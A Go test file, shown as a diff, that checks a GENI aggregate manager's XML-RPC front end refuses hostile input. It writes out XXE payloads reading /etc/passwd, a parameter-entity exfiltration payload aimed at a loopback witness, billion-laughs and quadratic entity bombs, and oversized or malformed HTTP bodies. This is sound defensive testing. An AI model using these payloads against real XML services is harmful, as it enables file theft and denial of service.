@@ -1,0 +1,504 @@
+package geniapi
+
+import (
+	"bufio"
+	"bytes"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/geniam/geniam/am/xmlrpc"
+)
+
+// The hostile-input tests send the aggregate's front end what an attacker or
+// a broken client would, over real TLS to NewServer, and check both the
+// answer and what it cost in memory. Figures are logged ("memory ...") for
+// the record; GENIAM_LONG=1 runs the bigger numbers.
+
+const callHead = `<?xml version="1.0"?><methodCall><methodName>GetVersion</methodName><params><param><value>`
+const callTail = `</value></param></params></methodCall>`
+
+// exchange sends req (a whole HTTP request) on a fresh connection and
+// decodes the reply. The request is written concurrently: the server may
+// answer, and close, before it has read everything.
+func (hs *hostileServer) exchange(t testing.TB, req []byte) (*http.Response, any, error) {
+	t.Helper()
+	c := hs.dial(t)
+	defer c.Close()
+	go func() { _, _ = c.Write(req) }()
+	return readReply(t, bufio.NewReader(c), http.MethodPost)
+}
+// outboundWitness is a loopback listener that XML external entities point
+// at: any connection to it means the server fetched an entity.
+type outboundWitness struct {
+	ln       net.Listener
+	accepted atomic.Int64
+}
+
+func newOutboundWitness(t *testing.T) *outboundWitness {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := &outboundWitness{ln: ln}
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			w.accepted.Add(1)
+			c.Close()
+		}
+	}()
+	t.Cleanup(func() { ln.Close() })
+	return w
+}
+
+// TestHostileEntities: external entities, parameter entities and entity
+// expansion bombs are refused as a DTD before anything is expanded or
+// fetched.
+func TestHostileEntities(t *testing.T) {
+	hs := startHostile(t, hostileOptions{})
+	witness := newOutboundWitness(t)
+	ext := "http://" + witness.ln.Addr().String()
+
+	laughs := `<!ENTITY lol "lol">`
+	for i := 1; i <= 9; i++ {
+		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
+	}
+	laughs = strings.Replace(laughs, "&lol0;", "&lol;", -1)
+	// Quadratic blowup: one big internal entity referenced many times. 1 MB
+	// times 100,000 references would expand to 100 GB.
+	quadEntity := scale(1<<20, 3<<20)
+	quadRefs := scale(100_000, 300_000)
+	quadratic := `<!DOCTYPE methodCall [<!ENTITY a "` + strings.Repeat("a", quadEntity) + `">]>` +
+		`<methodCall><methodName>GetVersion</methodName><params><param><value><string>` +
+		strings.Repeat("&a;", quadRefs) + `</string></value></param></params></methodCall>`
+
+	cases := []struct {
+		name string
+		body string
+		code int
+		msg  string
+	}{
+		{"external entity file", `<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
+			`<methodCall><methodName>&xxe;</methodName></methodCall>`, FaultParse, "DTD"},
+		{"external entity http", `<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "` + ext + `/xxe">]>` +
+			callHead + `<string>&xxe;</string>` + callTail, FaultParse, "DTD"},
+		{"external DTD", `<?xml version="1.0"?><!DOCTYPE methodCall SYSTEM "` + ext + `/call.dtd">` +
+			callHead + `<string>x</string>` + callTail, FaultParse, "DTD"},
+		{"parameter entity", `<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY % pe SYSTEM "` + ext + `/pe.dtd"> %pe;]>` +
+			callHead + `<string>x</string>` + callTail, FaultParse, "DTD"},
+		{"parameter entity file", `<!DOCTYPE methodCall [<!ENTITY % file SYSTEM "file:///etc/passwd">` +
+			`<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '` + ext + `/?x=%file;'>"> %eval; %exfil;]>` +
+			callHead + `<string>x</string>` + callTail, FaultParse, "DTD"},
+		{"billion laughs", `<?xml version="1.0"?><!DOCTYPE methodCall [` + laughs + `]>` +
+			callHead + `<string>&lol9;</string>` + callTail, FaultParse, "DTD"},
+		{"quadratic blowup", quadratic, FaultParse, "DTD"},
+		{"DOCTYPE inside the call", callHead + `<!DOCTYPE x [<!ENTITY a "b">]><string>&a;</string>` + callTail, FaultParse, "DTD"},
+		{"undefined entity, no DTD", callHead + `<string>&xxe;</string>` + callTail, FaultParse, "invalid character entity &xxe;"},
+		{"billion laughs reference, no DTD", callHead + `<string>&lol9;</string>` + callTail, FaultParse, "&lol9;"},
+		{"XInclude", callHead + `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>` + callTail,
+			FaultParse, "unknown value type <include>"},
+		{"xml-stylesheet PI", `<?xml-stylesheet type="text/xsl" href="` + ext + `/x.xsl"?>` + callHead + `<string>x</string>` + callTail, 0, ""},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			var resp *http.Response
+			var err error
+			req := rawRequest(hs.addr, []byte(c.body))
+			m := measureMem(func() { resp, _, err = hs.exchange(t, req) })
+			if resp.StatusCode != http.StatusOK {
+				t.Fatalf("status %s", resp.Status)
+			}
+			if c.code == 0 {
+				if err != nil {
+					t.Errorf("want a success, got %v", err)
+				}
+			} else {
+				wantFault(t, c.name, err, c.code, c.msg)
+			}
+			if err != nil && strings.Contains(err.Error(), "root:") {
+				t.Errorf("the reply shows /etc/passwd: %v", err)
+			}
+			// No expansion: the cost is that of reading the body, a few times
+			// its size at most, never the size of the expansion.
+			checkMem(t, fmt.Sprintf("%s (%d-byte body)", c.name, len(c.body)), m, uint64(4*len(c.body))+2<<20, uint64(4*len(c.body))+2<<20)
+		})
+	}
+	time.Sleep(100 * time.Millisecond) // let a (wrong) fetch reach the witness
+	if n := witness.accepted.Load(); n != 0 {
+		t.Errorf("the server made %d outbound connections for external entities", n)
+	}
+}
+
+// streamBody writes the request head, then the body from r (chunked when
+// chunked is set), on c; it returns the body bytes written before the
+// server stopped taking them, and the write error.
+func streamBody(c net.Conn, head string, r io.Reader, chunked bool) (int64, error) {
+	if _, err := io.WriteString(c, head); err != nil {
+		return 0, err
+	}
+	buf := make([]byte, 64<<10)
+	var sent int64
+	for {
+		n, rerr := r.Read(buf)
+		if n > 0 {
+			var err error
+			if chunked {
+				_, err = fmt.Fprintf(c, "%x\r\n", n)
+				if err == nil {
+					_, err = c.Write(buf[:n])
+				}
+				if err == nil {
+					_, err = io.WriteString(c, "\r\n")
+				}
+			} else {
+				_, err = c.Write(buf[:n])
+			}
+			if err != nil {
+				return sent, err
+			}
+			sent += int64(n)
+		}
+		if rerr == io.EOF {
+			if chunked {
+				_, err := io.WriteString(c, "0\r\n\r\n")
+				return sent, err
+			}
+			return sent, nil
+		}
+	}
+}
+
+// TestHostileHugeBodies: bodies over the limit are cut off at the limit,
+// whatever the headers claim, and the connection is closed.
+func TestHostileHugeBodies(t *testing.T) {
+	hs := startHostile(t, hostileOptions{timeouts: shortTimeouts})
+	const huge = 100 << 20
+	bigString := func() io.Reader {
+		return &patternReader{prefix: []byte(callHead + "<string>"), filler: []byte("0123456789abcdef"), n: huge}
+	}
+	cases := []struct {
+		name    string
+		head    string
+		chunked bool
+		code    int
+		msg     string
+		status  int // of a second response on the connection, 0 for none
+	}{
+		{"chunked 100 MB", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", true,
+			FaultInvalidRequest, "request body exceeds the limit of 4194304 bytes", 0},
+		{"Content-Length 100 MB", fmt.Sprintf("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n", huge), false,
+			FaultInvalidRequest, "request body exceeds the limit of 4194304 bytes", 0},
+		{"Content-Length lies low", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 200\r\n\r\n", false,
+			FaultParse, "unexpected EOF", http.StatusRequestHeaderFieldsTooLarge},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			conn := hs.dial(t)
+			defer conn.Close()
+			var sent int64
+			var werr error
+			var err error
+			var closedAfter time.Duration
+			m := measureMem(func() {
+				done := make(chan struct{})
+				go func() {
+					defer close(done)
+					sent, werr = streamBody(conn, c.head, bigString(), c.chunked)
+				}()
+				br := bufio.NewReader(conn)
+				var resp *http.Response
+				resp, _, err = readReply(t, br, http.MethodPost)
+				if resp.StatusCode != http.StatusOK {
+					t.Errorf("status %s", resp.Status)
+				}
+				if c.status != 0 {
+					// The rest of the body is read as a second request: garbage.
+					r2, err := http.ReadResponse(br, nil)
+					if err != nil {
+						t.Errorf("no second response: %v", err)
+					} else if r2.StatusCode != c.status {
+						t.Errorf("second response %s, want %d", r2.Status, c.status)
+					}
+				}
+				closedAfter = waitClosed(t, conn, 10*time.Second)
+				conn.Close()
+				<-done
+			})
+			wantFault(t, c.name, err, c.code, c.msg)
+			if werr == nil {
+				t.Errorf("the server took the whole 100 MB body")
+			}
+			t.Logf("%s: the server closed the connection %v after its reply; the client had sent %s (write error: %v)",
+				c.name, closedAfter.Round(time.Millisecond), mib(uint64(sent)), werr)
+			if sent > 32<<20 {
+				t.Errorf("the server read %s before closing", mib(uint64(sent)))
+			}
+			// The body limit is 4 MiB: a 100 MB body never costs more than 16.
+			checkMem(t, c.name, m, 16<<20, 16<<20)
+		})
+	}
+
+	t.Run("Content-Length lies high, body stalls", func(t *testing.T) {
+		conn := hs.dial(t)
+		defer conn.Close()
+		body := callHead + "<string>only this much"
+		fmt.Fprintf(conn, "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s", huge, body)
+		start := time.Now()
+		resp, _, err := readReply(t, bufio.NewReader(conn), http.MethodPost)
+		took := time.Since(start)
+		if resp.StatusCode != http.StatusOK {
+			t.Errorf("status %s", resp.Status)
+		}
+		wantFault(t, "stalled body", err, FaultParse, "cannot read the request")
+		waitClosed(t, conn, 5*time.Second)
+		t.Logf("stalled body: fault and close after %v (ReadTimeout %v)", took.Round(time.Millisecond), shortTimeouts.read)
+		if took < shortTimeouts.read-200*time.Millisecond || took > shortTimeouts.read+3*time.Second {
+			t.Errorf("the server answered after %v, want about its ReadTimeout of %v", took, shortTimeouts.read)
+		}
+	})
+}
+
+// nested returns a call whose one param is depth levels of arrays or structs.
+func nested(depth int, kind string) []byte {
+	var open, close string
+	switch kind {
+	case "array":
+		open, close = "<value><array><data>", "</data></array></value>"
+	case "struct":
+		open, close = "<value><struct><member><name>m</name>", "</member></struct></value>"
+	}
+	var b bytes.Buffer
+	b.WriteString(`<methodCall><methodName>GetVersion</methodName><params><param>`)
+	for i := 0; i < depth; i++ {
+		b.WriteString(open)
+	}
+	b.WriteString("<value><int>1</int></value>")
+	for i := 0; i < depth; i++ {
+		b.WriteString(close)
+	}
+	b.WriteString(`</param></params></methodCall>`)
+	return b.Bytes()
+}
+
+// manyValues returns a GetVersion call whose options carry n ints in one
+// array (an unknown option, which the edge ignores).
+func manyValues(n int) []byte {
+	var b bytes.Buffer
+	b.WriteString(`<methodCall><methodName>GetVersion</methodName><params><param><value><struct><member><name>x</name><value><array><data>`)
+	for i := 0; i < n; i++ {
+		fmt.Fprintf(&b, "<value><i4>%d</i4></value>", 1000+i%1000)
+	}
+	b.WriteString(`</data></array></value></member></struct></value></param></params></methodCall>`)
+	return b.Bytes()
+}
+
+// TestHostileShapes: deep nesting, many values, long strings and repeated
+// struct members are refused at the codec's limits or pass with bounded
+// memory.
+func TestHostileShapes(t *testing.T) {
+	depth := scale(10_000, 100_000)
+	values := scale(300_000, 1_000_000)
+	cases := []struct {
+		name     string
+		opts     HandlerOptions
+		body     func() []byte
+		code     int // fault code, 0 for a GetVersion success
+		msg      string
+		// encoding/xml allocates some 600 bytes per value as it goes (names
+		// of start and end elements, the element stack): maxAlloc allows
+		// for that churn, maxPeak bounds what is held at once.
+		maxAlloc, maxPeak uint64
+	}{
+		{fmt.Sprintf("%d nested arrays", depth), HandlerOptions{}, func() []byte { return nested(depth, "array") },
+			FaultParse, "nesting deeper than the limit of 64", 8 << 20, 8 << 20},
+		{fmt.Sprintf("%d nested structs", depth), HandlerOptions{}, func() []byte { return nested(depth, "struct") },
+			FaultParse, "nesting deeper than the limit of 64", 8 << 20, 8 << 20},
+		{fmt.Sprintf("%d ints over the value limit", values), HandlerOptions{MaxBodyBytes: 32 << 20}, func() []byte { return manyValues(values) },
+			FaultParse, "more than the limit of 100000 values", 80 << 20, 32 << 20},
+		{fmt.Sprintf("%d ints with the value limit raised", values), HandlerOptions{MaxBodyBytes: 32 << 20, Limits: xmlrpc.Limits{MaxValues: 2_000_000}},
+			func() []byte { return manyValues(values) }, 0, "", uint64(values) * 1000, uint64(values) * 200},
+		{"string just under the body limit", HandlerOptions{}, func() []byte {
+			return []byte(callHead + "<struct><member><name>s</name><value><string>" + strings.Repeat("x", 4<<20-1024) +
+				"</string></value></member></struct>" + callTail)
+		}, 0, "", 24 << 20, 24 << 20},
+		{"string over the string limit", HandlerOptions{MaxBodyBytes: 32 << 20}, func() []byte {
+			return []byte(callHead + "<string>" + strings.Repeat("x", 9<<20) + "</string>" + callTail)
+		}, FaultParse, "<string> longer than the limit of 8388608 bytes", 48 << 20, 40 << 20},
+		{"escaped string over the string limit", HandlerOptions{MaxBodyBytes: 64 << 20}, func() []byte {
+			return []byte(callHead + "<string>" + strings.Repeat("&lt;", 9<<20) + "</string>" + callTail)
+		}, FaultParse, "<string> longer than the limit of 8388608 bytes", 48 << 20, 40 << 20},
+		{"100,000 members with one name", HandlerOptions{}, func() []byte {
+			return []byte(callHead + "<struct>" + strings.Repeat("<member><name>a</name><value/></member>", 100_001) +
+				"</struct>" + callTail)
+		}, FaultParse, "more than the limit of 100000 values", 80 << 20, 32 << 20},
+		{"4 MB of attributes", HandlerOptions{}, func() []byte {
+			return []byte(`<methodCall ` + strings.Repeat(`a="b" `, (4<<20-100)/6) + `><methodName>GetVersion</methodName></methodCall>`)
+		}, FaultParse, "a tag longer than the limit of 16384 bytes", 8 << 20, 8 << 20},
+		{"50,000 members with one name", HandlerOptions{}, func() []byte {
+			return []byte(callHead + "<struct>" + strings.Repeat("<member><name>geni_available</name><value><int>7</int></value></member>", 49_999) +
+				"<member><name>geni_available</name><value><boolean>1</boolean></value></member></struct>" + callTail)
+		}, 0, "", 64 << 20, 32 << 20},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			hs := startHostile(t, hostileOptions{handler: c.opts})
+			body := c.body()
+			req := rawRequest(hs.addr, body)
+			var resp *http.Response
+			var v any
+			var err error
+			m := measureMem(func() { resp, v, err = hs.exchange(t, req) })
+			if resp.StatusCode != http.StatusOK {
+				t.Fatalf("status %s", resp.Status)
+			}
+			if c.code != 0 {
+				wantFault(t, c.name, err, c.code, c.msg)
+			} else if err != nil {
+				t.Errorf("want a reply, got %v", err)
+			} else if code := codeOf(t, v.(map[string]any)); code != 0 {
+				t.Errorf("geni_code %d: %v", code, v)
+			}
+			checkMem(t, fmt.Sprintf("%s (%s body)", c.name, mib(uint64(len(body)))), m, c.maxAlloc, c.maxPeak)
+		})
+	}
+}
+
+// credentialsCall is a ListResources call with n credentials of value v.
+func credentialsCall(n int, v string) []byte {
+	list := make([]any, n)
+	for i := range list {
+		list[i] = map[string]any{"geni_type": "geni_sfa", "geni_version": "3", "geni_value": v}
+	}
+	var b bytes.Buffer
+	if err := xmlrpc.EncodeCall(&b, "ListResources", list, map[string]any{"geni_rspec_version": rspecV3}); err != nil {
+		panic(err)
+	}
+	return b.Bytes()
+}
+
+// TestHostileCredentials: a call with thousands of credentials, or one huge
+// one, is refused before the aggregate sees it.
+func TestHostileCredentials(t *testing.T) {
+	huge := scale(50<<20, 100<<20)
+	hugeCred := func() []byte {
+		return []byte(`<methodCall><methodName>ListResources</methodName><params><param><value><array><data><value><string>` +
+			strings.Repeat("A", huge) + `</string></value></data></array></value></param>` +
+			`<param><value><struct></struct></value></param></params></methodCall>`)
+	}
+	cases := []struct {
+		name              string
+		opts              HandlerOptions
+		body              []byte
+		geniCode          int64 // when a v3 reply is expected (1 is BADARGS)
+		fault             int
+		msg               string
+		maxAlloc, maxPeak uint64
+	}{
+		{"10,000 credentials", HandlerOptions{}, credentialsCall(10_000, "<signed-credential/>"), 1, 0,
+			// The array is decoded (10,000 maps) before the edge counts it.
+			"credentials has 10000 entries, more than the limit of 64", 48 << 20, 48 << 20},
+		{"65 credentials", HandlerOptions{}, credentialsCall(65, "<signed-credential/>"), 1, 0,
+			"credentials has 65 entries, more than the limit of 64", 4 << 20, 4 << 20},
+		{"64 credentials", HandlerOptions{}, credentialsCall(64, "<signed-credential/>"), 0, 0, "", 4 << 20, 4 << 20},
+		{fmt.Sprintf("%d MB credential", huge>>20), HandlerOptions{}, hugeCred(), 0, FaultInvalidRequest,
+			"request body exceeds the limit of 4194304 bytes", 16 << 20, 16 << 20},
+		{fmt.Sprintf("%d MB credential, body limit raised", huge>>20), HandlerOptions{MaxBodyBytes: int64(huge) + 1<<20}, hugeCred(), 0, FaultParse,
+			"<string> longer than the limit of 8388608 bytes", 80 << 20, 72 << 20},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			hs := startHostile(t, hostileOptions{handler: c.opts})
+			req := rawRequest(hs.addr, c.body)
+			var resp *http.Response
+			var v any
+			var err error
+			m := measureMem(func() { resp, v, err = hs.exchange(t, req) })
+			if resp.StatusCode != http.StatusOK {
+				t.Fatalf("status %s", resp.Status)
+			}
+			if c.fault != 0 {
+				wantFault(t, c.name, err, c.fault, c.msg)
+			} else if err != nil {
+				t.Fatalf("want a v3 reply, got %v", err)
+			} else {
+				reply := v.(map[string]any)
+				if code := codeOf(t, reply); code != c.geniCode || !strings.Contains(reply["output"].(string), c.msg) {
+					t.Errorf("geni_code %d output %q, want %d %q", code, reply["output"], c.geniCode, c.msg)
+				}
+			}
+			if called := hs.fake.last().method; (called != "") != (c.geniCode == 0 && c.fault == 0) {
+				t.Errorf("the aggregate was called: %q", called)
+			}
+			checkMem(t, fmt.Sprintf("%s (%s body)", c.name, mib(uint64(len(c.body)))), m, c.maxAlloc, c.maxPeak)
+		})
+	}
+}
+
+// bigRSpec is a request RSpec of n nodes.
+func bigRSpec(n int) string {
+	var b strings.Builder
+	b.WriteString(`<rspec type="request" xmlns="http://www.geni.net/resources/rspec/3">` + "\n")
+	for i := 0; i < n; i++ {
+		fmt.Fprintf(&b, `  <node client_id="node-%d" component_manager_id="urn:publicid:IDN+am.example+authority+cm" exclusive="false">`+
+			`<sliver_type name="docker-container"/></node>`+"\n", i)
+	}
+	b.WriteString("</rspec>\n")
+	return b.String()
+}
+
+// TestHostileRSpec: Allocate with a request RSpec of 100,000 nodes. The edge
+// does not parse RSpecs; it refuses the body over its limit, and with the
+// limits raised hands the string to the aggregate without copying it many
+// times.
+func TestHostileRSpec(t *testing.T) {
+	nodes := scale(100_000, 300_000)
+	rspec := bigRSpec(nodes)
+	var body bytes.Buffer
+	if err := xmlrpc.EncodeCall(&body, "Allocate", sliceURN, creds, rspec, map[string]any{}); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("%d nodes: RSpec %s, call %s", nodes, mib(uint64(len(rspec))), mib(uint64(body.Len())))
+
+	t.Run("default limits", func(t *testing.T) {
+		hs := startHostile(t, hostileOptions{})
+		req := rawRequest(hs.addr, body.Bytes())
+		var err error
+		m := measureMem(func() { _, _, err = hs.exchange(t, req) })
+		wantFault(t, "RSpec over the body limit", err, FaultInvalidRequest, "request body exceeds the limit of 4194304 bytes")
+		if hs.fake.last().method != "" {
+			t.Errorf("the aggregate was called")
+		}
+		checkMem(t, "RSpec over the body limit", m, 16<<20, 16<<20)
+	})
+	t.Run("limits raised", func(t *testing.T) {
+		limit := int64(body.Len()) + 1<<20
+		hs := startHostile(t, hostileOptions{handler: HandlerOptions{MaxBodyBytes: limit, Limits: xmlrpc.Limits{MaxStringLen: int(limit)}}})
+		req := rawRequest(hs.addr, body.Bytes())
+		var v any
+		var err error
+		m := measureMem(func() { _, v, err = hs.exchange(t, req) })
+		if err != nil {
+			t.Fatal(err)
+		}
+		if code := codeOf(t, v.(map[string]any)); code != 0 {
+			t.Fatalf("geni_code %d: %v", code, v)
+		}
+		if got := hs.fake.last(); got.method != "Allocate" || got.rspec != rspec {
+			t.Errorf("the aggregate got %s with an RSpec of %d bytes, want %d", got.method, len(got.rspec), len(rspec))
+		}
+		// Read into encoding/xml's buffer (which doubles as it grows) and
+		// copied once into the string the aggregate gets: about 3 times the
+		// call.
+		checkMem(t, "RSpec with raised limits", m, uint64(body.Len())*7/2, uint64(body.Len())*3)
+		t.Logf("allocated %.1f times the call's size", float64(m.alloc)/float64(body.Len()))
+	})
+}
